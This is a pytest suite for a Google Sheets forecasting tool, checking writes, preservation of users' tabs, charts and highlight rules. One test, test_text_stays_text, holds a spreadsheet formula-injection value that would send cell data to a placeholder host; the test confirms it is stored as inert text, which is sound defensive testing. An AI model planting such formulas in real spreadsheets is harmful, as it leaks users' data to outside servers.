"""The main job against Sheets on this machine: one read, one write, and nothing of a person's changed."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest

from app.errors import NothingToForecast
from app.workbook import marks
from app.workbook.output.charts import MONTH_BARS, S_CURVE
from tests.refresh.at_sandbox import SandboxWorkbook
from tests.workbook.books import SMALL

Make = Callable[..., SandboxWorkbook]
# The turn that a write takes, and what the file remembers of the run.
ONLY_STAMPS = ["createDeveloperMetadata", "updateDeveloperMetadata"]
OUTPUTS = ["Dashboard", "Forecast", "Months", "Flags", "Movement", "Log"]


def changed_tables(**changes: Any) -> dict[str, list[dict[str, Any]]]:
    return copy.deepcopy(SMALL) | changes


def test_the_first_refresh_creates_our_tabs_behind_the_persons(workbook: Make) -> None:
    made = workbook()
    before = made.titles()
    outcome = made.refresh()
    assert made.titles() == [*before, *OUTPUTS]
    assert outcome.written.tabs_created == tuple(OUTPUTS)
    assert outcome.changes.first


def test_each_refresh_is_one_read_and_one_write(workbook: Make) -> None:
    made = workbook()
    for _ in range(3):
        made.sandbox.clear_requests()
        made.refresh()
        log = [(entry["kind"], entry["status"]) for entry in made.sandbox.requests("sheets")]
        assert log == [("read", 200), ("write", 200)]


def test_a_second_refresh_without_changes_writes_only_the_stamp(workbook: Make) -> None:
    made = workbook()
    made.refresh()
    before = made.get(includeGridData="true")
    outcome = made.refresh()
    assert made.kinds == ONLY_STAMPS
    assert outcome.written.rows_written == 0
    assert outcome.changes.text == "Forecast unchanged."
    after = made.get(includeGridData="true")
    assert sorted(entry["metadataKey"] for entry in after["developerMetadata"]) == [
        marks.RUN, marks.TURN, marks.TURN,
    ]  # fmt: skip
    first, second = (
        json.loads(entry["metadataValue"])
        for whole in (before, after)
        for entry in whole["developerMetadata"]
        if entry["metadataKey"] == marks.RUN
    )
    assert (first["run"], second["run"]) == ("run-1", "run-2")
    assert first["result"] == second["result"]
    assert after["sheets"] == before["sheets"]


@pytest.mark.parametrize(
    ("tab", "cell", "value", "check"),
    [
        ("Resource plan", "D2", 400, "C5"),
        ("Budget", "K3", 0.1, "B15"),
        ("Settings", "B7", "2026-02-28", "M2"),
    ],
)
def test_what_moved_stays_flagged_until_something_moves_again(
    workbook: Make, tab: str, cell: str, value: Any, check: str
) -> None:
    made = workbook()
    made.refresh()
    made.put(tab, cell, value)
    moved = made.refresh()
    assert check in {flag.check for flag in moved.findings.flags}
    for _ in range(2):
        again = made.refresh()
        assert made.kinds == ONLY_STAMPS
        assert again.findings.flags == moved.findings.flags


def test_a_change_rewrites_the_rows_it_touches_and_adds_one_log_row(workbook: Make) -> None:
    made = workbook()
    made.refresh()
    made.put("Budget", "B4", "Lanterns")
    outcome = made.refresh()
    forecast = made.sheet_id("Forecast")
    rows = [
        (r["updateCells"]["start"]["rowIndex"], len(r["updateCells"]["rows"]))
        for r in made.sent
        if "updateCells" in r and r["updateCells"]["start"]["sheetId"] == forecast
    ]
    assert len(rows) == 1
    assert rows[0][1] == 1
    assert made.values("Forecast")[rows[0][0]][1] == "Lanterns"
    log = made.values("Log")
    assert [row[8] for row in log[1:]] == ["run-1", "run-2"]
    assert outcome.written.rows_written < 6


def test_a_persons_tabs_stay_as_they_are_cell_by_cell(workbook: Make) -> None:
    made = workbook()
    dress_up(made)
    titles = made.titles()
    before = {title: typed(made.sheet(title)) for title in titles}
    made.refresh()
    made.put("Budget", "H3", 14_000)
    made.put("Budget", "H3", 15_000)
    made.refresh()
    for title in titles:
        after = typed(made.sheet(title))
        rules = after.pop("conditionalFormats", [])
        theirs = [rule for rule in rules if "plumbline" not in json.dumps(rule)]
        assert theirs == before[title].pop("conditionalFormats", [])
        after.pop("developerMetadata")
        assert after == before[title], title
    ours = made.sheet("Budget")["conditionalFormats"]
    assert any("plumbline" in json.dumps(rule) for rule in ours)


def typed(sheet: dict[str, Any]) -> dict[str, Any]:
    """A tab without what Google works out to be seen: our highlights show there, as they should."""
    for block in sheet["data"]:
        for row in block["rowData"]:
            for cell in row.get("values", []):
                cell.pop("effectiveFormat", None)
    return sheet


def dress_up(made: SandboxWorkbook) -> None:
    """What people do to a tab: formulas, notes, rules, lists, formats, hidden columns, merged titles."""
    sheet_id = made.sheet_id("Budget")
    made.put("Budget", "P2", "=SUM(H2:H4)")
    made.put("Budget", "Q3", "remark")
    cells = {
        "sheetId": sheet_id,
        "startRowIndex": 1,
        "endRowIndex": 4,
        "startColumnIndex": 7,
        "endColumnIndex": 8,
    }
    made.update(
        {
            "addConditionalFormatRule": {
                "index": 0,
                "rule": {
                    "ranges": [cells],
                    "booleanRule": {
                        "condition": {"type": "NUMBER_GREATER", "values": [{"userEnteredValue": "10000"}]},
                        "format": {"backgroundColorStyle": {"rgbColor": {"green": 1}}},
                    },
                },
            }
        },
        {
            "updateCells": {
                "start": {"sheetId": sheet_id, "rowIndex": 1, "columnIndex": 7},
                "rows": [
                    {
                        "values": [
                            {"note": "agreed in May", "userEnteredFormat": {"textFormat": {"bold": True}}}
                        ]
                    }
                ],
                "fields": "note,userEnteredFormat.textFormat.bold",
            }
        },
        {
            "updateDimensionProperties": {
                "range": {"sheetId": sheet_id, "dimension": "COLUMNS", "startIndex": 9, "endIndex": 10},
                "properties": {"hiddenByUser": True},
                "fields": "hiddenByUser",
            }
        },
    )


def test_our_rules_are_counted_not_piled_up(workbook: Make) -> None:
    made = workbook()
    made.refresh()
    first = made.sheet("Budget")["conditionalFormats"]
    for hours in (500, 501, 502):
        made.put("Actuals", "E2", hours)
        made.refresh()
    rules = made.sheet("Budget")["conditionalFormats"]
    severities = [json.dumps(rule).split("plumbline:")[1].split('\\"')[0] for rule in rules]
    assert len(severities) == len(set(severities))
    assert severities == [s for s in marks.SEVERITIES if s in severities]
    assert first


def test_charts_are_drawn_once_and_anew_when_they_change(workbook: Make) -> None:
    made = workbook()
    made.refresh()
    assert [chart["chartId"] for chart in made.sheet("Dashboard")["charts"]] == [S_CURVE, MONTH_BARS]
    made.put("Settings", "B7", "2026-04-30")
    made.refresh()
    assert made.kinds.count("updateChartSpec") == 2
    assert made.kinds.count("addChart") == 1  # why the forecast moved
    curve = made.sheet("Dashboard")["charts"][0]["spec"]["basicChart"]
    assert curve["series"][2]["lineStyle"]["type"] == "MEDIUM_DASHED"
    assert curve["headerCount"] == 1
    made.update({"deleteEmbeddedObject": {"objectId": S_CURVE}})
    made.refresh()
    assert sorted(c["chartId"] for c in made.sheet("Dashboard")["charts"]) == [S_CURVE, MONTH_BARS]


def eac_of(made: SandboxWorkbook) -> float:
    return float(made.refresh().forecast.cost.project.eac[0])


def test_renamed_moved_hidden_tabs_and_inserted_rows_and_columns(workbook: Make) -> None:
    made = workbook()
    before = eac_of(made)
    budget, actuals, forecast = (made.sheet_id(title) for title in ("Budget", "Actuals", "Forecast"))
    made.update(
        _rename(budget, "Kosten"),
        _rename(actuals, "Buchungen"),
        _rename(forecast, "Prognose"),
        {"updateSheetProperties": {"properties": {"sheetId": budget, "index": 4}, "fields": "index"}},
        {"updateSheetProperties": {"properties": {"sheetId": actuals, "hidden": True}, "fields": "hidden"}},
        _insert(budget, "ROWS", 0, 2),
        _insert(budget, "COLUMNS", 3, 1),
        _insert(actuals, "COLUMNS", 0, 2),
        _insert(actuals, "ROWS", 3, 1),
    )
    titles = made.titles()
    assert eac_of(made) == before
    assert made.titles() == titles
    assert made.previous is not None


def _rename(sheet_id: int, title: str) -> dict[str, Any]:
    return {"updateSheetProperties": {"properties": {"sheetId": sheet_id, "title": title}, "fields": "title"}}


def _insert(sheet_id: int, dimension: str, at: int, count: int) -> dict[str, Any]:
    where = {"sheetId": sheet_id, "dimension": dimension, "startIndex": at, "endIndex": at + count}
    return {"insertDimension": {"range": where, "inheritFromBefore": at > 0}}


def test_highlights_follow_inserted_rows(workbook: Make) -> None:
    made = workbook()
    made.put("Actuals", "E3", "eight")
    made.refresh()
    assert _error_rows(made) == {"startRowIndex": 2, "endRowIndex": 3}
    made.update(_insert(made.sheet_id("Actuals"), "ROWS", 1, 3))
    made.refresh()
    assert _error_rows(made) == {"startRowIndex": 5, "endRowIndex": 6}
    made.put("Actuals", "E6", 8)
    made.refresh()
    assert _error_rows(made) is None


def _error_rows(made: SandboxWorkbook) -> dict[str, int] | None:
    for rule in made.sheet("Actuals").get("conditionalFormats", []):
        if "plumbline:error" in json.dumps(rule):
            (area,) = rule["ranges"]
            return {key: area[key] for key in ("startRowIndex", "endRowIndex")}
    return None


def test_text_stays_text(workbook: Make) -> None:
    tables = changed_tables()
    tables["budget"][0]["title"] = '=IMPORTDATA("https://x/"&A1)'
    made = workbook(tables)
    made.refresh()
    cells = [row.get("values", []) for row in made.sheet("Forecast")["data"][0]["rowData"]]
    (cell,) = (row[1] for row in cells if len(row) > 1 and "IMPORTDATA" in json.dumps(row[1]))
    assert cell["userEnteredValue"] == {"stringValue": tables["budget"][0]["title"]}


def test_stale_rows_are_cleared_inside_our_rectangle_only(workbook: Make) -> None:
    made = workbook()
    made.refresh()
    height = len(made.values("Forecast"))
    made.put("Forecast", f"A{height + 3}", "my own sum")
    sheet_id = made.sheet_id("Budget")
    made.update(
        {
            "deleteDimension": {
                "range": {"sheetId": sheet_id, "dimension": "ROWS", "startIndex": 3, "endIndex": 4}
            }
        }
    )
    made.refresh()
    rows = made.values("Forecast")
    assert rows[height + 2] == ["my own sum"]
    assert all(row == [] for row in rows[height - 2 : height + 2])


def test_growth_pushes_a_persons_cells_down_and_right(workbook: Make) -> None:
    made = workbook()
    made.refresh()
    rows = made.values("Forecast")
    below, right = f"A{len(rows) + 1}", max(len(row) for row in rows)
    made.put("Forecast", below, "mine below")
    made.put("Forecast", f"{_letters(right)}3", "mine beside")
    made.put("Budget", "A5", "2.2")
    made.put("Budget", "H5", 700)
    made.put("Budget", "E5", "2026-07-01")
    made.put("Budget", "F5", "2026-08-31")
    made.refresh()
    after = made.values("Forecast")
    assert [row[0] for row in after if row and row[0] == "mine below"] == ["mine below"]
    assert ["mine beside" in row for row in after].count(True) == 1
    assert "2.2" in [row[0] for row in after if row]


def _letters(column: int) -> str:
    return chr(65 + column) if column < 26 else chr(64 + column // 26) + chr(65 + column % 26)


def test_a_persons_own_dashboard_keeps_its_name_and_cells(workbook: Make) -> None:
    made = workbook()
    made.update({"addSheet": {"properties": {"sheetId": 4242, "title": "Dashboard"}}})
    made.put("Dashboard", "A1", "my board")
    made.refresh()
    assert made.values("Dashboard") == [["my board"]]
    assert "Plumbline Dashboard" in made.titles()


def test_a_deleted_output_tab_comes_back_once(workbook: Make) -> None:
    made = workbook()
    made.refresh()
    made.update({"deleteSheet": {"sheetId": made.sheet_id("Months")}})
    outcome = made.refresh()
    assert outcome.written.tabs_created == ("Months",)
    assert made.titles().count("Months") == 1


def test_figures_in_the_tabs_are_those_of_the_forecast(workbook: Make) -> None:
    made = workbook()
    outcome = made.refresh()
    rows = made.values("Forecast")
    heading = rows[1]
    total = next(row for row in rows if len(row) > 1 and row[1] == "Project")
    shown = dict(zip(heading, total, strict=False))
    cost, hours = outcome.forecast.cost.project, outcome.forecast.hours.project
    assert shown["Budget"] == pytest.approx(cost.bac[0] / 100, abs=0.005)
    assert shown["Forecast"] == pytest.approx(cost.eac[0] / 100, abs=0.005)
    assert shown["Hours spent"] == pytest.approx(hours.ac[0], abs=0.005)
    assert shown["In words"].startswith(("over by", "under by", "on budget"))
    months = {row[0]: row for row in made.values("Months")[2:]}
    march = months[(date(2026, 3, 1) - date(1899, 12, 30)).days]
    assert march[3] == 7534.56


@pytest.mark.parametrize(("title", "a1"), [("Settings", "B7"), ("Settings", "B6")])
def test_where_nothing_can_be_said_nothing_is_written(workbook: Make, title: str, a1: str) -> None:
    made = workbook()
    made.put(title, a1, "")
    before = made.get(includeGridData="true")
    made.sandbox.clear_requests()
    with pytest.raises(NothingToForecast):
        made.refresh()
    assert [entry["kind"] for entry in made.sandbox.requests("sheets")] == ["read"]
    assert made.get(includeGridData="true") == before
